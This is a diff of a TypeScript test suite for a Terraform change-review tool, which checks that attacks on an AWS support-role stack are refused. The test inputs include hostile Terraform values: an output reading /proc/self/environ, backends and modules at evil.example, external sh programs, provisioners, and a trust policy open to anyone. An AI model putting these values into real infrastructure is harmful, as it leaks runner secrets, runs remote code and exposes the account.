@@ -1,12 +1,11 @@
 import { markdown } from "../../../../cli/commands/review/report";
 import { reviewOf } from "../../../../cli/commands/review/review";
-import type { Terraform } from "../../../../cli/terraform/synthesized-folder";
-import { ACCOUNT, ATTACKED, edited, LEVELS, passes, S3, stackOf } from "../../../support/attacked-stack";
+import { ACCOUNT, ATTACKED, edited, passes } from "../../../support/attacked-stack";
 import { CHANNEL, change, type Draft } from "../../../support/edited-stack";
 import { sample, thoroughTest } from "../../../support/thorough";
 import { set } from "./small-stack";
 
-const withEdit = (path: string, value: unknown, base?: Terraform) => edited((draft) => set(draft, path, value), base);
+const withEdit = (path: string, value: unknown) => edited((draft) => set(draft, path, value));
 const appended = (one: unknown) => (all: readonly unknown[]) => [...all, one];
 const replaced = (from: string, to: string) => (text: string) => text.replace(from, to);
 
@@ -14,8 +13,6 @@ const ROLE = "resource aws_iam_role full";
 const DOCUMENT = "data aws_iam_policy_document full";
 const TRUST = "data aws_iam_policy_document full_trust statement";
 const STATE = `resource aws_cloudcontrolapi_resource ${CHANNEL} desired_state`;
-const DOCUMENT_OF = (Action: string, Resource: string) =>
-  JSON.stringify({ Statement: { Effect: "Deny", Action, Resource } });
 const FILE = '${file("x")}';
 const PROVISIONER = [{ "local-exec": { command: "true" } }];
 const IMPORT = { to: "aws_iam_role.full", id: "AWSSupportAppFullRole" };
@@ -24,79 +21,33 @@ const IN_STACK = { from: "aws_iam_service_linked_role.service_quotas" };
 
 describe("an attack needs an approval or is refused", () => {
   test.each<[string, string, unknown]>([
-    ["the state of another bucket", "terraform backend s3 bucket", "theirs"],
     ["the state under another key", "terraform backend s3 key", "theirs/paid.tfstate"],
-    ["the state in another region", "terraform backend s3 region", "eu-west-1"],
     ["a state that nobody locks", "terraform backend s3 use_lockfile", undefined],
-    ["a backend that is reached by another endpoint", "terraform backend s3 endpoints", { s3: "https://evil.example" }],
-    ["state that is handed to a web server", "terraform backend", { http: { address: "https://evil.example" } }],
     ["encryption that runs a program in OpenTofu", "terraform encryption", { key_provider: { external: { a: {} } } }],
     ["a provider of another name", "terraform required_providers evil", { source: "evil/evil", version: "1.0.0" }],
-    ["the provider from elsewhere", "terraform required_providers aws source", "evil.example/hashicorp/aws"],
-    ["another version of the provider", "terraform required_providers aws version", "= 5.0.0"],
-    ["channels that stay behind in the old region", "provider aws 0 region", "eu-west-1"],
-    ["a provider that reads credentials elsewhere", "provider aws 0 shared_credentials_files", ["x"]],
     ["a provider that assumes a role by a token", "provider aws 0 assume_role_with_web_identity", [{ role_arn: "x" }]],
-    ["another role that deploys", "provider aws 0 assume_role", [{ role_arn: `arn:aws:iam::${ACCOUNT}:role/d` }]],
     ["a foreign attachment", "import", [{ to: "aws_iam_role_policy_attachment.full", id: `Theirs/${ATTACHMENT_ID}` }]],
-    ["an import of another role's list", "import", [{ to: "aws_iam_role_policies_exclusive.full", id: "Theirs" }]],
-    ["a foreign policy", "import", [{ to: "aws_iam_policy.full", id: ATTACHMENT_ID.replace(ACCOUNT, "999999999999") }]],
-    ["an import once for each of many", "import", [{ ...IMPORT, for_each: "${toset([])}" }]],
-    ["an import by an identity", "import", [{ to: IMPORT.to, identity: { name: "Theirs" } }]],
-    ["an import of something that isn't in the stack", "import", [{ to: "aws_iam_role.theirs", id: "theirs" }]],
-    ["a move of something that the stack never had", "moved", [{ from: "aws_iam_role.theirs", to: IMPORT.to }]],
     ["a move onto something else", "moved", [{ from: "aws_iam_role.read_only", to: IMPORT.to }]],
-    ["a role that Terraform stops managing", "removed", [{ from: IMPORT.to, lifecycle: { destroy: false } }]],
     ["the Service Quotas role that Terraform destroys", "removed", [{ ...IN_STACK, lifecycle: { destroy: true } }]],
     ["an output that discloses the runner's secrets", "output more value", '${filebase64("/proc/self/environ")}'],
-    ["an output with a precondition", "output full_role_arn precondition", [{ condition: FILE, error_message: "a" }]],
-    ["an output of what the stack doesn't have", "output more value", "${aws_iam_role.theirs.arn}"],
-    ["a local that reads a file", "locals a", FILE],
-    ["a document that reads a file beside its statements", `${DOCUMENT} policy_id`, FILE],
     ["a document nobody refers to", "data aws_iam_policy_document more statement", [{ sid: FILE, actions: ["a:b"] }]],
     ["a resource that runs a program", `${ROLE} provisioner`, PROVISIONER],
-    ["a log group that runs a program", "resource aws_cloudwatch_log_group a", { name: "a", provisioner: PROVISIONER }],
-    ["a lifecycle that reads a file", `${ROLE} lifecycle postcondition`, [{ condition: FILE, error_message: "a" }]],
     [
       "a second role linked to Service Quotas",
       "resource aws_iam_service_linked_role more",
       { aws_service_name: "servicequotas.amazonaws.com", lifecycle: { prevent_destroy: true } },
     ],
-    [
-      "a letter that Terraform turns into another",
-      `${DOCUMENT} statement`,
-      appended({ effect: "Deny", actions: ["support:CreateCase"], resources: ["arn:aws:s3:::b/\u212aeys"] }),
-    ],
-    [
-      "an IAM variable that an older version takes literally",
-      "resource aws_iam_policy full policy",
-      DOCUMENT_OF("support:*", "arn:aws:s3:::${aws:username}"),
-    ],
-    [
-      "a channel that may get its role before its policy",
-      `resource aws_cloudcontrolapi_resource ${CHANNEL} depends_on`,
-      (all: string[]) => all.slice(1),
-    ],
     ["a notification that keeps its setting in the account", STATE, replaced(', "NotifyOnResolveCase" = false', "")],
-    ["a channel of a role by its ARN", STATE, replaced("aws_iam_role.full.arn", `"arn:aws:iam::${ACCOUNT}:role/Boss"`)],
-    ["a workspace that is a role", "resource aws_cloudcontrolapi_resource workspace_T01 type_name", "AWS::IAM::Role"],
-    ["a role that another provider manages", `${ROLE} provider`, "aws.theirs"],
     ["a policy named like a JS property", "resource aws_iam_role_policy_attachment full policy_arn", "constructor"],
     ["a boundary named like a property of every object", `${ROLE} permissions_boundary`, "__proto__"],
-    ["a type named like a property of every object", "resource toString", { a: {} }],
     ["anybody", TRUST, appended({ actions: ["sts:AssumeRole"], principals: [{ type: "AWS", identifiers: ["*"] }] })],
-    ["a condition that holds more often", `${TRUST} 0 condition 0 test`, "StringEqualsIfExists"],
   ])("%s", (_, path, value) => {
     expect(passes(withEdit(path, value))).toBe(false);
   });
 
   test.each<[string, string, unknown]>([
-    ["another description", `${ROLE} description`, "theirs"],
     ["a tag", `${ROLE} tags`, { provider: "aws.theirs" }],
     ["default tags", "provider aws 0 default_tags", [{ tags: { region: "eu-west-1" } }]],
-    ["the provider's source in another form", "terraform required_providers aws source", "hashicorp/aws"],
-    ["Terraform's version", "terraform required_version", ">= 1.8"],
-    ["an import of its own role", "import", [IMPORT]],
     [
       "an import of its own attachment",
       "import",
@@ -104,16 +55,10 @@ describe("an attack needs an approval or is refused", () => {
     ],
     ["no move", "moved", []],
     ["the Service Quotas role that stays in the account", "removed", [{ ...IN_STACK, lifecycle: { destroy: false } }]],
-    ["another output", "output more value", ["${aws_iam_policy.full.arn}", "a"]],
-    ["an output that is sensitive", "output full_role_arn sensitive", true],
     ["no locals, variables and modules", "locals", {}],
-    ["a Sid", `${DOCUMENT} statement 0 sid`, "x"],
-    ["known data", "data aws_caller_identity more", {}],
-    ["a log group", "resource aws_cloudwatch_log_group a", { name: "a", retention_in_days: 7 }],
     ["remarks", `${ROLE} //`, { provisioner: PROVISIONER }],
     ["one more Deny", `${DOCUMENT} statement`, appended({ effect: "Deny", actions: ["support:*"], resources: ["*"] })],
     ["a notification", STATE, replaced('"NotifyOnResolveCase" = false', '"NotifyOnResolveCase" = true')],
-    ["a channel's name", STATE, replaced("oncall", "ops")],
     [
       "another workspace",
       "resource aws_cloudcontrolapi_resource workspace_T01 desired_state",
@@ -125,35 +70,17 @@ describe("an attack needs an approval or is refused", () => {
     expect(found).toMatchObject({ unreadable: [], violations: [] });
     expect(passes(found)).toBe(true);
   });
-
-  test.each<[string, unknown]>([
-    ["organization", "theirs"],
-    ["hostname", "evil.example"],
-    ["workspaces", { name: "theirs" }],
-    ["token", "x"],
-  ])("the state in HCP Terraform with another %s", (name, value) => {
-    const CLOUD = stackOf("{ type: cloud, organization: acme }", LEVELS);
-    expect(withEdit(`terraform cloud ${name}`, value, CLOUD)).toMatchObject({
-      ...{ verdict: "unknown", plannable: "approved" },
-    });
-  });
 });
 
 describe("a value from outside the Terraform is refused, whatever was approved: one approval would cover what it becomes later", () => {
   const POLICY = "resource aws_iam_policy full policy";
   test.each<[string, string, unknown]>([
-    ["a file", POLICY, FILE],
     ["a file by a template", POLICY, '${templatefile("a", {})}'],
-    ["a file, with a comment in between", POLICY, '${file /* a */ ("a")}'],
     ["a file within a function that reads none", POLICY, '${jsonencode(jsondecode(file("a")))}'],
-    ["a function of a provider", POLICY, '${provider::evil::policy("a")}'],
-    ["the time", `${ROLE} description`, "${timestamp()}"],
     ["a directive", `${ROLE} description`, '%{ if fileexists("a") }a%{ endif }'],
-    ["the workspace", `${ROLE} description`, "${terraform.workspace}"],
     ["a key", `${ROLE} tags`, { [FILE]: "b" }],
     ["a module", "module a", { source: "git::https://evil.example/a" }],
     ["a program", "data external a", { program: ["sh"] }],
-    ["a provisioner", `${ROLE} provisioner`, PROVISIONER],
     ["a resource of another provider", "resource null_resource a", {}],
     ["what is found in AWS", "data aws_s3_object a", { bucket: "b", key: "p.json" }],
     ["a variable, which the run sets", "variable a", { default: "{}" }],
@@ -172,13 +99,6 @@ describe("a value from outside the Terraform is refused, whatever was approved: 
       ...{ verdict: "unknown", violations: [], plannable: "approved" },
     });
   });
-});
-
-test("full access under the read-only name is refused; under its own name, it needs an approval", () => {
-  const base = stackOf(S3, "read-only: {}");
-  const full = (name: string) => change(base, stackOf(S3, `full: { role-name: ${name} }`));
-  expect(full("AWSSupportAppReadOnlyRole").violations).not.toEqual([]);
-  expect(full("AWSSupportAppFullRole")).toMatchObject({ violations: [], verdict: "broadened" });
 });
 
 describe("every section, every place and every odd value", () => {
